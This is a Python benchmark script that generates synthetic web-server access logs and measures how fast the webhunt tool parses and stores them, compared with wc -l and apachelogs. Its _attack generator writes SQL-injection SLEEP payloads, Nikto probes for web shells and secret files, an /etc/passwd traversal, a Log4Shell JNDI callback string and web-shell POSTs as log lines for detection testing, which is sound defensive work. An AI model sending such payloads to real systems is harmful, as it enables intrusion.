"""Access-log ingest throughput: webhunt against ``wc -l`` and apachelogs' own per-line parse.

    python bench/logs/run.py [--lines 1000000] [--reference-lines 200000] [--batch N] [--keep DIR]

One invocation:

1. generates a realistic combined-format log (browsers, mobile, crawlers, static assets with
   ``?ver=``, 304s with ``-`` bytes, logins, admin-ajax POSTs, 404s, IPv6 clients, escaped quotes,
   and a few attacks: a sqlmap burst, a Nikto run, a traversal, Log4Shell probes and an uploaded
   shell used with POSTs) into a temporary directory, and reads it once (warm page cache);
2. measures, each phase in a fresh child process (so each reports its own peak memory):
   - ``wc -l`` (the floor: reading the bytes and counting newlines, in C);
   - apachelogs: ``LogParser(COMBINED).parse`` per line, on the first ``--reference-lines`` lines
     (it is slow; lines/s is what is compared);
   - webhunt parse: ``read_requests([file])`` over the whole file, and over a file 1/10 the size
     (peak memory must not grow with the file), then with ``parallel=True`` (parsing in a second
     process, the parent building the ``Request`` objects);
   - webhunt ingest into a new SQLite store (parse + store + index), when
     ``webhunt.store.open_store`` exists: ``Store.add_requests(LogReader(...))`` in one process and
     with ``parallel=True`` (the reading process parses and prepares the insert rows, this one
     inserts; the phase the target is about), then the same log again (it must add nothing);
     ``Store.add_requests`` of ``Request`` objects (what callers holding requests do), and
     with the log detections watching the reader (``LogDetector.watching``: the detector reads
     the rows in the reading process), which is all that ``webhunt logs`` does.

It prints a Markdown block (for docs/benchmarks.md) with lines/s, MB/s, CPU seconds (for parallel
phases: this process + the reading process), peak RSS and the ratios against apachelogs and against
the ingest target (150,000 lines/s on 2 cores). The machine may be shared: besides wall-clock lines/s
each phase reports lines per CPU-second of its busiest process (an upper bound of what two
dedicated cores would reach: it ignores start-up and waits) and the load average when it ended. Progress goes to stderr. Figures are never
asserted; the references run on the same machine in the same invocation.
"""

from __future__ import annotations

import argparse
import contextlib
import importlib.util
import json
import os
import platform
import random
import resource
import sqlite3
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
TARGET_INGEST = 150_000
MIB = 1024 * 1024


def say(text: str) -> None:
    print(f"bench/logs: {text}", file=sys.stderr, flush=True)


# --- a realistic log -----------------------------------------------------------------------------

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.3 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.3 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.6261.105 Mobile Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.0.0 Safari/537.36 Edg/122.0.2365.66",
]
CRAWLERS = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
]
PAGES = ["/", "/index.php", "/shop/", "/about-us/", "/contact/", "/blog/", "/cart.php", "/checkout.php"]
ASSETS = [
    "/wp-content/themes/storefront/style.css?ver=6.4.3",
    "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1",
    "/wp-includes/js/jquery/jquery-migrate.min.js?ver=3.4.1",
    "/wp-content/plugins/woocommerce/assets/js/frontend/cart-fragments.min.js?ver=8.6.1",
    "/wp-content/plugins/woocommerce/assets/css/woocommerce.css?ver=8.6.1",
    "/favicon.ico",
    "/wp-content/uploads/2024/02/banner-1200x400.jpg",
]


def _client(rng: random.Random) -> str:
    n = int(rng.paretovariate(1.2)) % 20_000
    if n % 23 == 0:
        return f"2001:db8:{n % 65536:x}::{n % 997 + 1:x}"
    return f"{(n * 7919) % 223 + 1}.{(n * 104729) % 256}.{(n * 1299709) % 256}.{n % 254 + 1}"


def _line(ip: str, t: datetime, method: str, target: str, status: int, size: str, ref: str, ua: str) -> str:
    stamp = t.strftime("%d/%b/%Y:%H:%M:%S +0100")
    return f'{ip} - - [{stamp}] "{method} {target} HTTP/1.1" {status} {size} "{ref}" "{ua}"\n'


def generate(lines: int, seed: int = 6) -> Iterator[str]:
    """Log lines in time order (a week at ~1.6 requests/s), the mix of a busy shop."""
    rng = random.Random(seed)
    tz = timezone(timedelta(hours=1))
    t = datetime(2024, 3, 1, tzinfo=tz)
    site = "https://shop.example.com"
    attack_at = {int(lines * f) for f in (0.2, 0.45, 0.7, 0.9)}
    n = 0
    while n < lines:
        t += timedelta(seconds=rng.random() * 1.2)
        if n in attack_at:
            for text in _attack(rng, t, len(attack_at)):
                if n < lines:
                    yield text
                    n += 1
            continue
        ip = _client(rng)
        roll = rng.random()
        if roll < 0.08:  # crawlers
            ua = rng.choice(CRAWLERS)
            yield _line(ip, t, "GET", rng.choice(PAGES) + f"?p={rng.randrange(5000)}", 200,
                        str(rng.randrange(3000, 60000)), "-", ua)  # fmt: skip
        elif roll < 0.30:  # pages
            ua = rng.choice(BROWSERS)
            target = rng.choice(PAGES)
            if rng.random() < 0.3:
                target = f"/product.php?id={rng.randrange(1, 4000)}&ref=home"
            yield _line(ip, t, "GET", target, 200, str(rng.randrange(8000, 90000)), site + "/", ua)
        elif roll < 0.86:  # static assets, some revalidated (304, '-')
            ua = rng.choice(BROWSERS)
            if rng.random() < 0.25:
                yield _line(ip, t, "GET", rng.choice(ASSETS), 304, "-", site + "/", ua)
            else:
                yield _line(ip, t, "GET", rng.choice(ASSETS), 200, str(rng.randrange(300, 250000)),
                            site + "/", ua)  # fmt: skip
        elif roll < 0.93:  # POSTs: logins, ajax, cart
            ua = rng.choice(BROWSERS)
            target = rng.choice(["/wp-login.php", "/wp-admin/admin-ajax.php", "/cart.php?add-to-cart=12"])
            yield _line(ip, t, "POST", target, rng.choice((200, 200, 302)), str(rng.randrange(20, 900)),
                        site + "/", ua)  # fmt: skip
        elif roll < 0.985:  # 404s
            ua = rng.choice(BROWSERS + CRAWLERS)
            yield _line(ip, t, "GET", f"/old/page-{rng.randrange(900)}.html", 404, "196", "-", ua)
        elif roll < 0.995:  # clients with escaped quotes in the user agent
            yield _line(
                ip, t, "GET", "/", 200, "5120", "-", 'Mozilla/5.0 \\"compatible\\" ' + "FeedFetcher/2.1"
            )
        else:  # scripts and monitoring
            ua = rng.choice(["curl/8.5.0", "python-requests/2.31.0", "Go-http-client/1.1", "kube-probe/1.29"])
            yield _line(ip, t, "GET", "/healthz.php", 200, "2", "-", ua)
        n += 1


def _attack(rng: random.Random, t: datetime, _: int) -> Iterator[str]:
    attacker = f"203.0.113.{rng.randrange(2, 250)}"
    for i in range(40):  # sqlmap
        yield _line(attacker, t, "GET", f"/product.php?id=7%27%20AND%20SLEEP({i % 5})--%20-", 200, "1250", "-",
                    "sqlmap/1.7.2#stable (https://sqlmap.org)")  # fmt: skip
    for name in ("shell.php", "c99.php", "wso.php", ".env", ".git/config", "phpmyadmin/index.php"):
        yield _line("198.51.100.250", t, "GET", f"/{name}", 404, "196", "-", "Mozilla/5.00 (Nikto/2.5.0)")
    yield _line(attacker, t, "GET", "/index.php?page=../../../../etc/passwd", 200, "512", "-", BROWSERS[0])
    yield _line(attacker, t, "GET", "/", 200, "5120", "-", "${jndi:ldap://198.51.100.9:1389/a}")
    yield _line(attacker, t, "POST", "/wp-admin/async-upload.php", 200, "740", site_ref(), BROWSERS[0])
    for _ in range(12):
        yield _line(
            attacker, t, "POST", "/wp-content/uploads/2024/03/cache.php", 200, "64", "-", "antSword/v2.1"
        )


def site_ref() -> str:
    return "https://shop.example.com/wp-admin/media-new.php"


# --- phases (each runs in its own process) --------------------------------------------------------


@dataclass(frozen=True)
class Result:
    name: str
    lines: int
    bytes: int
    seconds: float
    cpu: float
    max_rss_mib: float
    note: str = ""
    cpu_main: float = 0.0  # the phase's own process; cpu - cpu_main is its reading process
    load: float = 0.0  # 1-minute load average when the phase ended

    @property
    def lines_per_s(self) -> float:
        return self.lines / self.seconds if self.seconds else 0.0

    @property
    def busiest_cpu(self) -> float:
        """CPU seconds of the busiest process: a lower bound of the wall time on two dedicated cores."""
        return max(self.cpu_main, self.cpu - self.cpu_main) if self.cpu_main else self.cpu


def _cpu_own() -> float:
    own = resource.getrusage(resource.RUSAGE_SELF)
    return own.ru_utime + own.ru_stime


def _cpu() -> float:
    kids = resource.getrusage(resource.RUSAGE_CHILDREN)
    return _cpu_own() + kids.ru_utime + kids.ru_stime


def _max_rss_mib() -> float:
    own = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    kids = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    return max(own, kids) / 1024  # KiB on Linux


#: Ingest phases: name -> (parallel, how the requests reach the store, with log detections)
_INGEST = {
    "ingest": (False, "reader", False),
    "ingest-par": (True, "reader", False),
    "ingest-requests-par": (True, "requests", False),
    "ingest+detect-par": (True, "reader", True),
}


def phase(name: str, path: Path, limit: int, db: str, batch: int) -> dict[str, object]:
    """Run one measured phase in this (child) process and describe it (``batch`` 0: the default)."""
    note = ""
    options = {"batch_size": batch} if batch else {}
    if name == "apachelogs":
        import apachelogs

        parser = apachelogs.LogParser(apachelogs.COMBINED)
        cpu0, own0, t0 = _cpu(), _cpu_own(), time.perf_counter()
        count = 0
        with path.open(encoding="utf-8", errors="backslashreplace") as f:
            for line in f:
                if count >= limit:
                    break
                with contextlib.suppress(ValueError):  # InvalidEntryError, bad dates
                    parser.parse(line)
                count += 1
        seconds, cpu, own = time.perf_counter() - t0, _cpu() - cpu0, _cpu_own() - own0
    elif name in ("parse", "parse-par"):
        from webhunt.logs.reader import read_requests

        requests = read_requests([str(path)], parallel=name == "parse-par")
        cpu0, own0, t0 = _cpu(), _cpu_own(), time.perf_counter()
        count = sum(1 for _ in requests)
        seconds, cpu, own = time.perf_counter() - t0, _cpu() - cpu0, _cpu_own() - own0
    else:
        from webhunt.logs.detections import LogDetector
        from webhunt.logs.indicators import load_indicators
        from webhunt.logs.reader import LogReader
        from webhunt.store import open_store

        parallel, feed, detect = _INGEST[name]
        with open_store(db, host="bench") as store:
            reader = LogReader([str(path)], parallel=parallel)
            detector = LogDetector(load_indicators()) if detect else None
            cpu0, own0, t0 = _cpu(), _cpu_own(), time.perf_counter()
            if detector is not None:  # what ``webhunt logs`` does
                new = store.add_requests(detector.watching(reader), **options)
                count = detector.requests_seen
                note = f"{new:,} new rows, {len(detector.findings())} LOG findings"
            elif feed == "requests":  # any iterable of Request objects (``webhunt hunt``, the guard)
                count = new = store.add_requests(iter(reader), **options)
                note = f"{new:,} new rows"
            else:  # the reader itself: rows prepared where the lines are parsed
                count = new = store.add_requests(reader, **options)
                note = f"{new:,} new rows"
            seconds, cpu, own = time.perf_counter() - t0, _cpu() - cpu0, _cpu_own() - own0
            if name == "ingest-par":  # the same log once more (not measured): nothing may be added
                again = time.perf_counter()
                dup = store.add_requests(LogReader([str(path)], parallel=parallel), **options)
                note += f"; re-ingest: {dup} new rows in {time.perf_counter() - again:.1f} s"
    return {
        "name": name,
        "lines": count,
        "seconds": seconds,
        "cpu": cpu,
        "cpu_main": own,
        "max_rss_mib": _max_rss_mib(),
        "note": note,
        "load": os.getloadavg()[0],
    }


def run_child(name: str, path: Path, limit: int, db: str, label: str, batch: int = 0) -> Result:
    say(f"{label} ...")
    env = dict(os.environ, PYTHONPATH=str(REPO) + os.pathsep + os.environ.get("PYTHONPATH", ""))
    cmd = [sys.executable, __file__, "--phase", name, "--file", str(path), "--limit", str(limit)]
    cmd += ["--db", db, "--batch", str(batch)]
    done = subprocess.run(cmd, check=False, capture_output=True, text=True, env=env)
    if done.returncode != 0:
        raise SystemExit(f"bench/logs: phase {name!r} failed (exit {done.returncode}):\n{done.stderr}")
    data = json.loads(done.stdout.strip().splitlines()[-1])
    size = path.stat().st_size
    nbytes = size if data["lines"] >= count_lines(path) else round(size * data["lines"] / count_lines(path))
    return Result(
        label,
        data["lines"],
        nbytes,
        data["seconds"],
        data["cpu"],
        data["max_rss_mib"],
        data["note"],
        data["cpu_main"] if name.endswith("-par") else 0.0,
        data["load"],
    )


_LINES: dict[Path, int] = {}


def count_lines(path: Path) -> int:
    if path not in _LINES:
        with path.open("rb") as f:
            _LINES[path] = sum(chunk.count(b"\n") for chunk in iter(lambda: f.read(MIB), b""))
    return _LINES[path]


def run_wc(path: Path) -> Result:
    say("wc -l ...")
    t0 = time.perf_counter()
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    out = subprocess.run(["wc", "-l", str(path)], check=True, capture_output=True, text=True).stdout
    seconds = time.perf_counter() - t0
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    cpu = (after.ru_utime + after.ru_stime) - (before.ru_utime + before.ru_stime)
    return Result("wc -l", int(out.split()[0]), path.stat().st_size, seconds, cpu, after.ru_maxrss / 1024)


# --- report --------------------------------------------------------------------------------------


TARGET_PHASE = "webhunt ingest (parse + store + index)"


def _default_batch() -> int:
    import inspect

    from webhunt.store import Store

    default = inspect.signature(Store.add_requests).parameters["batch_size"].default
    return int(default)


def report(results: list[Result], lines: int, size: int, batch: int) -> str:
    by = {r.name: r for r in results}
    wc = by["wc -l"]
    ref = by["apachelogs LogParser.parse per line"]
    rows = [
        "| phase | lines | seconds | lines/s | MB/s | CPU s (main + reader) | lines per busiest-process "
        "CPU-s | peak RSS MiB | vs apachelogs | load | note |",
        "|---|---:|---:|---:|---:|---:|---:|---:|---:|---:|---|",
    ]
    for r in results:
        mbps = r.bytes / MIB / r.seconds if r.seconds else 0
        split = f" ({r.cpu_main:.2f} + {r.cpu - r.cpu_main:.2f})" if r.cpu_main else ""
        busiest = r.lines / r.busiest_cpu if r.busiest_cpu else 0
        rows.append(
            f"| {r.name} | {r.lines:,} | {r.seconds:.2f} | {r.lines_per_s:,.0f} | {mbps:.1f} | {r.cpu:.2f}{split} "
            f"| {busiest:,.0f} | {r.max_rss_mib:.0f} | {r.lines_per_s / ref.lines_per_s:.1f}x | {r.load:.1f} "
            f"| {r.note} |"
        )
    head = [
        f"### Log ingest ({datetime.now(UTC):%Y-%m-%d}, {platform.machine()}, {os.cpu_count()} cores, "
        f"Python {platform.python_version()}, SQLite {sqlite3.sqlite_version})",
        "",
        f"Generated combined log: {lines:,} lines, {size / MIB:.0f} MiB. Command: `python bench/logs/run.py "
        f"--lines {lines}{f' --batch {batch}' if batch else ''}` (store transactions of "
        f"{batch or _default_batch():,} rows; `wc -l`: {wc.lines_per_s:,.0f} lines/s).",
        "",
        *rows,
        "",
    ]
    for name in (TARGET_PHASE, "webhunt ingest via Request objects", "webhunt ingest + log detections"):
        if name in by:
            r = by[name]
            head.append(
                f"- {name}: {r.lines_per_s:,.0f} lines/s wall = {r.lines_per_s / TARGET_INGEST:.2f}x the "
                f"{TARGET_INGEST:,} lines/s target; busiest process {r.busiest_cpu / r.lines * 1e6:.2f} "
                f"CPU-us per line (at most {r.lines / r.busiest_cpu / TARGET_INGEST:.2f}x the target on two "
                "dedicated cores)"
            )
    parse = by["webhunt parse (read_requests)"]
    head.append(
        f"- parse into Request objects: {parse.cpu / parse.lines * 1e6:.1f} CPU-us per line; apachelogs: "
        f"{ref.cpu / ref.lines * 1e6:.1f} ({(ref.cpu / ref.lines) / (parse.cpu / parse.lines):.1f}x more)"
    )
    single = by.get("webhunt ingest, one process")
    if single is not None:
        head.append(f"- ingest in one process: {single.cpu / single.lines * 1e6:.1f} CPU-us per line")
    load = os.getloadavg()[0]
    head.append(
        f"- load average at the end: {load:.1f} on {os.cpu_count()} cores"
        + (" (shared machine: wall-clock figures are low; compare CPU figures)" if load > 1.5 else "")
    )
    if TARGET_PHASE not in by:
        head.append("- ingest not measured: webhunt.store.open_store is not available")
    return "\n".join(head)


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--lines", type=int, default=1_000_000)
    p.add_argument("--reference-lines", type=int, default=200_000, help="lines apachelogs parses")
    p.add_argument(
        "--batch", type=int, default=0, help="rows per store transaction (default: add_requests' default)"
    )
    p.add_argument("--keep", metavar="DIR", help="write the generated log here and keep it")
    p.add_argument("--phase", help=argparse.SUPPRESS)
    p.add_argument("--file", help=argparse.SUPPRESS)
    p.add_argument("--limit", type=int, default=0, help=argparse.SUPPRESS)
    p.add_argument("--db", default="", help=argparse.SUPPRESS)
    args = p.parse_args(argv)
    if args.phase:
        print(json.dumps(phase(args.phase, Path(args.file), args.limit, args.db, args.batch)))
        return 0

    with tempfile.TemporaryDirectory(prefix="webhunt-bench-logs-") as tmp:
        work = Path(args.keep) if args.keep else Path(tmp)
        work.mkdir(parents=True, exist_ok=True)
        big, small = work / "access.log", work / "access-small.log"
        say(f"generating {args.lines:,} lines into {big} ...")
        with big.open("w") as f, small.open("w") as g:
            for i, text in enumerate(generate(args.lines)):
                f.write(text)
                if i < args.lines // 10:
                    g.write(text)
        count_lines(big)  # reads the file once: warm page cache for every phase
        results = [run_wc(big)]
        results.append(
            run_child("apachelogs", big, args.reference_lines, "", "apachelogs LogParser.parse per line")
        )
        results.append(run_child("parse", small, 0, "", "webhunt parse (read_requests), 1/10 file"))
        results.append(run_child("parse", big, 0, "", "webhunt parse (read_requests)"))
        results.append(run_child("parse-par", big, 0, "", "webhunt parse, parallel=True"))
        if importlib.util.find_spec("webhunt.store") is not None:
            from webhunt import store

            if hasattr(store, "open_store"):
                for name, label in (
                    ("ingest", "webhunt ingest, one process"),
                    ("ingest-par", TARGET_PHASE),
                    ("ingest-requests-par", "webhunt ingest via Request objects"),
                    ("ingest+detect-par", "webhunt ingest + log detections"),
                ):
                    for old in work.glob(name.replace("+", "-") + ".db*"):
                        old.unlink()  # --keep DIR: every run starts from an empty store
                    db = f"sqlite:///{work / (name.replace('+', '-') + '.db')}"
                    results.append(run_child(name, big, 0, db, label, args.batch))
        print(report(results, count_lines(big), big.stat().st_size, args.batch))
    return 0


if __name__ == "__main__":
    sys.exit(main())
